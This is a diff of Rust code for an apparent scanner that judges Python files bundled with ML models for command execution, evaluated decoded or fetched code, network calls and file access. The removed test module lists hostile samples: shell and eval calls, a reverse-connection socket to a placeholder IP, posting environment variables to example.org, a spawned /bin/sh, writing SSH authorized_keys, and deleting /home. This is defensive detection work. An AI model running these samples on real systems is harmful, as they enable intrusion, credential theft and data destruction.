@@ -1,91 +1,68 @@
-//! Reads Python that comes with a model, and says what it does that models have no business to do: run commands, run what
-//! it decoded or fetched, open connections, touch files of the user. Comments and strings do nothing.
+//! Judges the calls of one file: what each does, with which arguments, and where those come from.
 
 use std::cell::Cell;
 
-use palisade_formats::python::{Binding, Call, Constant, Field, Flow, Id, Kind, Label, Limits, Module, PythonError};
-
+use palisade_formats::python::{Binding, Call, Constant, Field, Flow, Id, Kind, Label, Module, Values};
 use palisade_text::{Detector, RunnableCode};
 
-use super::{
-    name,
-    origins::{FOREIGN, Marks, REQUEST, SECRET},
-    part::Part,
-};
+use super::{Use, acts_within};
 use crate::{
-    Engine, Input,
     input::model::{
-        Carrier, Does, Effect, Effects, When,
+        Carrier, Does, Effect,
         code::{Act, act, is_drop, is_scratch, is_sensitive, is_system, only_tells, takes_over},
-        keep_worst,
+    },
+    open::model::{
+        name,
+        origins::{FOREIGN, REQUEST, SECRET},
     },
 };
 
-/// How code gets to run.
-#[derive(Clone, Copy, Debug)]
-pub(super) struct Use {
-    /// When it is imported.
-    pub(super) when: When,
-    /// Whether it is run as a script, so that what stands under `if __name__ == "__main__"` counts.
-    pub(super) script: bool,
-    /// Whether it builds something, so that it may well run compilers.
-    pub(super) builds: bool,
-}
-
-/// Judges a file of Python, and hands what it does to the engine. Returns whether it does more than models do.
-pub(super) fn judge(part: &Part<'_>, text: &str, title: &'static str, usage: Use, engine: &mut Engine) -> bool {
-    let effects = match acts(text, usage) {
-        Ok(effects) => effects,
-        Err(error) => {
-            part.unscanned(engine, error.to_string());
-            return false;
-        }
-    };
-    let acts = effects.iter().any(|effect| effect.does > Does::Known);
-    engine.judge(&Input::Effects(Effects { artifact: part.artifact, bytes: part.bytes, title, effects }));
-    acts
-}
-
-/// What code does besides computing, in the order of the source; the worst [`MOST`] of it if there is more.
-pub(super) fn acts(text: &str, usage: Use) -> Result<Vec<Effect>, PythonError> {
-    acts_within(text, usage, NESTED, &Cell::new(SOURCE))
-}
-
-fn acts_within(text: &str, usage: Use, nested: usize, room: &Cell<usize>) -> Result<Vec<Effect>, PythonError> {
-    let module = Module::parse(text, Limits::default())?;
-    let flow = Flow::of(&module, &Marks);
-    let reader = Reader { module: &module, flow: &flow, usage, nested, room };
-    let calls = module.calls().iter().filter(|call| usage.script || !reader.is_main_only(call.node));
-    let mut effects: Vec<Effect> = calls.filter_map(|call| reader.call(call)).collect();
-    keep_worst(&mut effects, MOST);
-    Ok(effects)
-}
-
-struct Reader<'a> {
-    module: &'a Module,
-    flow: &'a Flow,
-    usage: Use,
+/// What is known of a file.
+pub(super) struct Reader<'a> {
+    pub(super) module: &'a Module,
+    pub(super) flow: &'a Flow,
+    pub(super) values: &'a Values,
+    pub(super) usage: Use,
     /// How deep source in strings is still read.
-    nested: usize,
+    pub(super) nested: usize,
     /// How many bytes of source in strings are still read: one string may be run any number of times.
-    room: &'a Cell<usize>,
+    pub(super) room: &'a Cell<usize>,
 }
 
 /// What is done, and the words for it.
-type Found = Option<(Does, String)>;
+pub(super) type Found = Option<(Does, String)>;
 
 impl Reader<'_> {
-    fn call(&self, call: &Call) -> Option<Effect> {
+    /// What a call does, whichever way the function was come by.
+    pub(super) fn call(&self, call: &Call) -> Option<Effect> {
         let path = crate::input::application::callee(call);
-        let (does, what) = match act(&path) {
-            Some(act) => self.act(call, act, &path)?,
-            None => self.computed(call)?,
+        let own = match act(&path) {
+            Some(act) => self.act(call, act, &path),
+            None => self.computed(call),
         };
-        let range = self.module.range(call.node);
-        Some(Effect { range, carrier: Carrier::Code, does, when: self.usage.when, what })
+        let others =
+            self.values.paths(call.function).chain(self.values.through(call.node)).filter(|other| *other != path);
+        let others = others.filter_map(|other| match act(other) {
+            Some(act) => self.act(call, act, other),
+            None => self.any_attribute(call, other),
+        });
+        let (does, what) = own.into_iter().chain(others).chain(self.handed(call)).max_by_key(|(does, _)| *does)?;
+        Some(self.effect(call.node, does, what))
     }
 
-    fn act(&self, call: &Call, act: Act, path: &str) -> Found {
+    pub(super) fn effect(&self, node: Id, does: Does, what: String) -> Effect {
+        Effect { range: self.module.range(node), carrier: Carrier::Code, does, when: self.usage.when, what }
+    }
+
+    /// A call of an attribute whose name is computed, of a module that gives away the machine; or of one that starts
+    /// programs, of a module whose name is.
+    fn any_attribute(&self, call: &Call, path: &str) -> Found {
+        let (owner, name) = path.rsplit_once('.')?;
+        let any = name == "*" && is_system(owner) || owner == "*" && starts(name);
+        any.then(|| (Does::Executes, format!("calls something by a computed name: `{}`", self.shown(call.node))))
+    }
+
+    pub(super) fn act(&self, call: &Call, act: Act, path: &str) -> Found {
         match act {
             Act::Process => self.process(call, path),
             Act::Evaluates => self.evaluates(call, path),
@@ -105,32 +82,41 @@ impl Reader<'_> {
         }
     }
 
-    fn first(&self, call: &Call) -> Option<Id> {
+    pub(super) fn first(&self, call: &Call) -> Option<Id> {
         self.module.positional(call.node).next().or_else(|| {
             let keyword = |name| self.module.keyword(call.node, name);
             ["args", "cmd", "command", "url", "file", "path", "source"].into_iter().find_map(keyword)
         })
     }
 
-    fn is_marked(&self, node: Id, label: Label) -> bool {
+    pub(super) fn is_marked(&self, node: Id, label: Label) -> bool {
         self.flow.origin(node, label).is_some()
     }
 
     /// Whether a call happens while the module is imported.
-    fn at_import(&self, node: Id) -> bool {
+    pub(super) fn at_import(&self, node: Id) -> bool {
         let inside = |id| matches!(self.module.kind(id), Kind::Function | Kind::Lambda);
         !self.module.ancestors(node).any(inside)
     }
 
-    fn is_main_only(&self, node: Id) -> bool {
+    /// Whether it happens only when the file is run as a script.
+    pub(super) fn is_main_only(&self, node: Id) -> bool {
+        let module = self.module;
         let guard = |id| {
-            let text = self.module.text(id);
-            text.starts_with("if __name__") && text.lines().next().is_some_and(|line| line.contains("__main__"))
+            let condition =
+                module.child(id, Field::Condition).filter(|condition| module.kind(*condition) == Kind::Comparison);
+            let spelled = condition.map(|condition| module.spelling(condition).replace('\'', "\""));
+            let is_main =
+                spelled.is_some_and(|text| text == "__name__==\"__main__\"" || text == "\"__main__\"==__name__");
+            is_main
+                && !module
+                    .children(id)
+                    .any(|part| module.field(part) == Field::Alternative && module.is_within(node, part))
         };
-        self.module.ancestors(node).any(guard)
+        module.ancestors(node).any(guard)
     }
 
-    fn process(&self, call: &Call, path: &str) -> Found {
+    pub(super) fn process(&self, call: &Call, path: &str) -> Found {
         if NO_PROCESS.iter().any(|name| path == *name || path.ends_with("Error") || path.ends_with("Expired")) {
             return None;
         }
@@ -182,41 +168,69 @@ impl Reader<'_> {
     fn evaluates(&self, call: &Call, path: &str) -> Found {
         let source = self.first(call)?;
         let shown = self.shown(call.node);
-        if let Some(text) = self.source(source) {
-            let Some(room) = self.room.get().checked_sub(text.len()) else {
-                return Some((Does::Custom, format!("runs more strings as Python than the scan reads: `{shown}`")));
-            };
-            self.room.set(room);
-            let nested = self.nested.checked_sub(1);
-            let Some(Ok(inner)) = nested.map(|nested| acts_within(&text, self.usage, nested, self.room)) else {
-                return Some((Does::Custom, format!("runs a string as Python that the scan does not read: `{shown}`")));
-            };
-            let worst =
-                inner.into_iter().max_by_key(|effect| effect.does).filter(|effect| effect.does > Does::Known)?;
-            return Some((worst.does, format!("runs a string as Python, which {}", worst.what)));
-        }
         if let Some(words) = self.foreign(source) {
             return Some((Does::Executes, format!("runs {words} as Python: `{shown}`")));
         }
+        let sources = self.sources(source);
+        let worst = sources.iter().filter_map(|text| self.runs(text, &shown)).max_by_key(|(does, _)| *does);
+        // What else it may be is not known unless all of it stands in the file.
+        let whole = !sources.is_empty() && self.module.built(self.compiled(source)).holes.is_empty();
+        if worst.is_some() || whole {
+            return worst;
+        }
         let reads = self.module.path(source);
+        if reads.ends_with("__doc__") {
+            return Some((Does::Executes, format!("runs a comment as Python: `{shown}`")));
+        }
         if reads.contains("open()") || reads.ends_with("read()") || reads.ends_with("read_text()") {
-            return Some((Does::Known, format!("runs the content of a file as Python: `{shown}`")));
+            // What is called a program is judged as one.
+            let open = self.module.text(source).contains(".py");
+            let does = if self.usage.builds {
+                Does::Known
+            } else if open {
+                Does::Custom
+            } else {
+                Does::Calls
+            };
+            return Some((does, format!("runs the content of a file as Python: `{shown}`")));
         }
         Some((Does::Custom, format!("runs text that it puts together as Python with `{path}`: `{shown}`")))
     }
 
-    /// The source that an expression is, also through `compile`.
-    fn source(&self, node: Id) -> Option<String> {
-        let node = match self.module.call(self.module.bare(node)) {
-            Some(inner) if inner.path == "compile" => self.first(inner)?,
-            _ => node,
+    /// What a string does that is run as Python.
+    pub(super) fn runs(&self, text: &str, shown: &str) -> Found {
+        let Some(room) = self.room.get().checked_sub(text.len()) else {
+            return Some((Does::Custom, format!("runs more strings as Python than the scan reads: `{shown}`")));
         };
-        let text = self.module.constant_text(node)?;
-        Some(text.replace("\\n", "\n").replace("\\t", "\t").replace("\\'", "'").replace("\\\"", "\""))
+        self.room.set(room);
+        let nested = self.nested.checked_sub(1);
+        let Some(Ok(inner)) = nested.map(|nested| acts_within(text, self.usage, nested, self.room)) else {
+            return Some((Does::Custom, format!("runs a string as Python that the scan does not read: `{shown}`")));
+        };
+        let worst = inner.into_iter().max_by_key(|effect| effect.does).filter(|effect| effect.does > Does::Known)?;
+        Some((worst.does, format!("runs a string as Python, which {}", worst.what)))
+    }
+
+    /// What is given to `compile`, if that is what an expression is made by.
+    fn compiled(&self, node: Id) -> Id {
+        let call = self.module.call(self.value_of(self.module.bare(node), &[Kind::Call]));
+        let source = call.filter(|call| call.path == "compile").and_then(|call| self.first(call));
+        source.unwrap_or(node)
+    }
+
+    /// The source that an expression is, also through `compile`.
+    pub(super) fn sources(&self, node: Id) -> Vec<String> {
+        let node = self.compiled(node);
+        let literal =
+            self.module.literal(self.value_of(self.module.bare(node), &[Kind::String, Kind::Concatenated]), LITERAL);
+        match literal {
+            Some(literal) => vec![literal],
+            None => self.values.texts(node).map(str::to_owned).collect(),
+        }
     }
 
     /// Where a value comes from, if it is not the code's own.
-    fn foreign(&self, node: Id) -> Option<&'static str> {
+    pub(super) fn foreign(&self, node: Id) -> Option<&'static str> {
         if self.is_marked(node, FOREIGN) {
             Some("what it decoded or fetched")
         } else if self.is_marked(node, REQUEST) {
@@ -259,6 +273,9 @@ impl Reader<'_> {
             return Some((Does::Executes, format!("unpickles {words}: `{shown}`")));
         }
         let literal = module.constant_text(source);
+        if path.starts_with("yaml.") && self.values.texts(source).any(|text| text.contains("!!python/")) {
+            return Some((Does::Executes, format!("makes objects of what stands in it: `{shown}`")));
+        }
         // Bytes that stand in the code are no path.
         if path.ends_with("loads") && literal.is_some() {
             return Some((Does::Executes, format!("unpickles bytes that stand in it: `{shown}`")));
@@ -349,6 +366,10 @@ impl Reader<'_> {
         let mut arguments = module.positional(function);
         let (object, key) = (arguments.next()?, arguments.next());
         if let ("getattr", Some(key)) = (inner.path.as_str(), key) {
+            // What is called by it is judged by its name.
+            if self.module.constant_text(key).is_some() {
+                return None;
+            }
             let owner = module.path(object);
             let imported = owner.contains("__import__()") && self.is_marked(object, FOREIGN);
             return Some(is_system(&owner) || imported || self.is_marked(key, FOREIGN));
@@ -391,7 +412,7 @@ impl Reader<'_> {
     }
 
     /// The beginning of an expression, in one line.
-    fn shown(&self, node: Id) -> String {
+    pub(super) fn shown(&self, node: Id) -> String {
         let words: Vec<_> = self.module.text(node).split_whitespace().take(24).collect();
         let line = words.join(" ");
         match line.char_indices().nth(SHOWN) {
@@ -399,6 +420,24 @@ impl Reader<'_> {
             None => line,
         }
     }
+}
+
+/// Whether a function of this name starts programs or runs code, whatever module it is of.
+fn starts(name: &str) -> bool {
+    matches!(
+        name,
+        "system"
+            | "popen"
+            | "Popen"
+            | "check_output"
+            | "check_call"
+            | "getoutput"
+            | "getstatusoutput"
+            | "exec"
+            | "eval"
+    ) || name.starts_with("spawn") && name.len() < 8
+        || name.starts_with("execv")
+        || name.starts_with("execl")
 }
 
 fn is_import(path: &str) -> bool {
@@ -417,92 +456,8 @@ const NO_PROCESS: &[&str] = &["subprocess.list2cmdline", "subprocess.STARTUPINFO
 /// Arguments with which programs tell their version.
 const VERSION: &[&str] = &["--version", "-version", "-V", "-v", "--help"];
 
-/// The most effects of one file.
-const MOST: usize = 100;
-const NESTED: usize = 3;
-/// How many bytes of source in strings are read for one file.
-const SOURCE: usize = 16 << 20;
-const WORDS: usize = 32;
+/// How many bytes of one string are read as source.
+const LITERAL: usize = 4 << 20;
+/// How many words or arguments are looked at.
+pub(super) const WORDS: usize = 32;
 const SHOWN: usize = 120;
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    fn worst(text: &str) -> Option<Does> {
-        let effects = acts(text, Use { when: When::Deploy, script: false, builds: false }).unwrap();
-        effects.into_iter().map(|effect| effect.does).max()
-    }
-
-    #[test]
-    fn what_takes_over_the_machine_is_found() {
-        for text in [
-            "import os\nos.system('id')",
-            "from os import system as s\nclass H:\n    def initialize(self, c):\n        s('id')",
-            "import subprocess as sp\ndef handle(data, context):\n    return sp.run(['echo', 'x'])",
-            "__import__('os').popen('id')",
-            "getattr(__import__('os'), 'sys' + 'tem')('id')",
-            "import os\ngetattr(os, name)('id')",
-            "import os\nf = getattr(os, bytes.fromhex('73797374656d').decode())\nf('id')",
-            "import os\nvars(os)['system']('id')",
-            "import builtins\nbuiltins.__dict__['ev' + 'al']('x')",
-            "exec(\"import os; os.system('id')\")",
-            "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))",
-            "import base64, zlib\nc = zlib.decompress(base64.b64decode(X))\neval(compile(c, 'x', 'exec'))",
-            "import requests\nexec(requests.get('https://example.org/x').text)",
-            "import marshal, types\ntypes.FunctionType(marshal.loads(b'\\x63'), {})()",
-            "import pickle, base64\npickle.loads(base64.b64decode('gASV'))",
-            "def handle(data, context):\n    return eval(data[0].get('body'))",
-            "import ctypes\nctypes.CDLL(None).system(b'id')",
-            "import pty\npty.spawn('/bin/sh')",
-            "().__class__.__base__.__subclasses__()[84]()",
-            "import pip\npip.main(['install', 'x'])",
-        ] {
-            assert_eq!(worst(text), Some(Does::Executes), "{text}");
-        }
-    }
-
-    #[test]
-    fn what_reaches_files_and_machines_is_found() {
-        for text in [
-            "import socket\ns = socket.socket()\ns.connect(('198.51.100.7', 4444))",
-            "import urllib.request\nurllib.request.urlopen('https://example.org/beacon')",
-            "import requests, os\ndef handle(data, c):\n    requests.post('https://example.org', json=dict(os.environ))",
-            "import requests\ndef handle(data, c):\n    requests.get('http://198.51.100.7/x')",
-            "open('/etc/passwd').read()",
-            "import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write(K)",
-            "from pathlib import Path\n(Path.home() / 'x')\nPath('/etc/cron.d/x').write_text('x')",
-            "import shutil\nshutil.rmtree('/home')",
-        ] {
-            assert_eq!(worst(text), Some(Does::Reaches), "{text}");
-        }
-    }
-
-    #[test]
-    fn ordinary_handlers_are_quiet() {
-        for text in [
-            "# os.system('id')\nMARK = \"subprocess.Popen('x')\"\n\"\"\"eval('x')\"\"\"\ndef handle(data, context):\n    return MARK\n",
-            "import io, json, base64, logging, os, torch\nfrom PIL import Image\nfrom ts.torch_handler.base_handler import BaseHandler\n             class H(BaseHandler):\n    def initialize(self, context):\n        d = context.system_properties.get('model_dir')\n             \x20       self.model = torch.load(os.path.join(d, 'model.pt'), map_location='cpu')\n        self.model.eval()\n             \x20       with open(os.path.join(d, 'index.json')) as f:\n            self.map = json.load(f)\n             \x20   def preprocess(self, data):\n        row = data[0].get('data') or data[0].get('body')\n             \x20       return Image.open(io.BytesIO(base64.b64decode(row)))\n",
-            "import subprocess\ndef gpus():\n    return subprocess.check_output(['nvidia-smi', '-L'])\n",
-            "import pickle, os\ndef model_fn(d):\n    with open(os.path.join(d, 'm.pkl'), 'rb') as f:\n        return pickle.load(f)\n",
-            "import requests\nfrom PIL import Image\ndef load(url):\n    return Image.open(requests.get(url, stream=True).raw)\n",
-            "import re\npattern = re.compile('x')\nmodel.eval()\nexecute = pattern.match('exec')\n",
-            "import importlib\ndef make(c):\n    return getattr(importlib.import_module(c['module']), c['class'])(**c['params'])\n",
-            "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['python', 'train.py'])\n",
-            "open('/tmp/cache.bin', 'wb').write(b'')\n",
-        ] {
-            assert!(worst(text) <= Some(Does::Known), "{text}: {:?}", worst(text));
-        }
-    }
-
-    #[test]
-    fn what_is_only_poor_style_is_milder() {
-        for text in [
-            "import torch.nn as nn\ndef act(config):\n    return eval('nn.' + config.act)\n",
-            "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'sentencepiece'])\n",
-            "import ctypes\nlib = ctypes.CDLL('libcudart.so')\n",
-        ] {
-            assert_eq!(worst(text), Some(Does::Custom), "{text}");
-        }
-    }
-}
